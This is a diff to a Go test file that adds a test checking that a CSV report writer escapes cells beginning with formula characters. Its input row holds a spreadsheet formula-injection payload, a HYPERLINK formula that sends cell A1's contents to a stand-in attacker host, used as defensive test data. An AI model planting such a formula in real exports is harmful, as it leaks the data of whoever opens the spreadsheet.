@@ -1,6 +1,7 @@
 package importer
 
 import (
+	"encoding/csv"
 	"errors"
 	"io"
 	"runtime"
@@ -191,5 +192,35 @@ func TestARowOfEmptyCellsIsBounded(t *testing.T) {
 	}
 	if rec, err := r.Next(); err != nil || rec.Fields[0] != "Boris" {
 		t.Fatalf("the row after: %v %v", rec, err)
+	}
+}
+
+// TestAReportIsNoFormula: a report is opened in a spreadsheet, and its
+// values are what the file held, a formula a client once typed too; it
+// is written as text, as an export is.
+func TestAReportIsNoFormula(t *testing.T) {
+	var b strings.Builder
+	r, err := NewReportWriter(&b, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := r.Add(Line{Line: 2, Outcome: "rejected", Key: `=HYPERLINK("http://evil.example/?"&A1)`, Column: "phone", Value: "=1+2",
+		Reason: "not a phone", Alternatives: []string{"+7 912 345-67-89"}}); err != nil {
+		t.Fatal(err)
+	}
+	if err := r.Close(nil); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%q %v", b.String(), err)
+	}
+	for _, cell := range rows[1] {
+		if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
+			t.Errorf("the report's cell %q is a formula", cell)
+		}
+	}
+	if rows[1][4] != "'=1+2" || rows[1][6] != "'+7 912 345-67-89" {
+		t.Errorf("the report's row: %q", rows[1])
 	}
 }
